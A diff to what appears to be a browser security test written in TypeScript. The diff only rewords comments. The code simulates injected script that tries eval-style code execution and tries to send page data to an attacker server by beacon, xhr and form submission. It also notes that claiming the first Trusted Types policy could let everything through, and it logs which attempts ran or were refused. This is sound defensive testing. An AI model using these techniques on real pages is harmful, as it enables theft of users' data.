@@ -1,10 +1,10 @@
 /**
- * What somebody would try whose code has come into one of the page's own scripts: to run more code, and to send away what
- * the page knows. It is carried into the browser as text and added to a script of the build, so that it has the powers of
- * a script of the page and no others.
+ * Attack from injected code in one of the page's own scripts: tries to run more code, and to send away data
+ * of the page. Runs as text appended to a script of the build, so that it has exactly the powers of a script
+ * of the page.
  */
 
-/** Each way to run more code, and each way to send something to the attacker's server, by its name. */
+/** Names of all ways to run more code, and to send data to the attacker's server. */
 export const attackNames = [
   "beacon",
   "eval",
@@ -30,7 +30,7 @@ export const attackNames = [
   "xhr"
 ] as const
 
-/** Runs in the page. What has run or has been refused stands on the root element afterwards. */
+/** Runs in the page. Records successes and refusals on the root element. */
 export const attack = async (server: string): Promise<void> => {
   const root = document.documentElement
   const ran: string[] = []
@@ -51,11 +51,11 @@ export const attack = async (server: string): Promise<void> => {
       refused.push(name)
     }
   }
-  // Before anything is tried: text is no script.
+  // Runs before any policy is created: text is not a script.
   await attempt("text as markup", () => {
     document.createElement("div").innerHTML = "<b>text</b>"
   })
-  // Who comes first may make the page's one policy for such texts, and let everything through.
+  // The first policy for such texts wins, and could let everything through.
   const types = (globalThis as { trustedTypes?: { createPolicy(name: string, rules: object): unknown } })
     .trustedTypes
   const through = (text: string) => text
@@ -113,7 +113,7 @@ export const attack = async (server: string): Promise<void> => {
     make("iframe", { name: "answer" })
     ;(make("form", { action: to("form"), target: "answer" }) as HTMLFormElement).submit()
   })
-  // What was sent before has left the page when this has come back, twice.
+  // Two round trips: requests sent before have left the page by then.
   await fetch("/version.json")
   await fetch("/version.json")
   await new Promise((resolve) => setTimeout(resolve, 500))
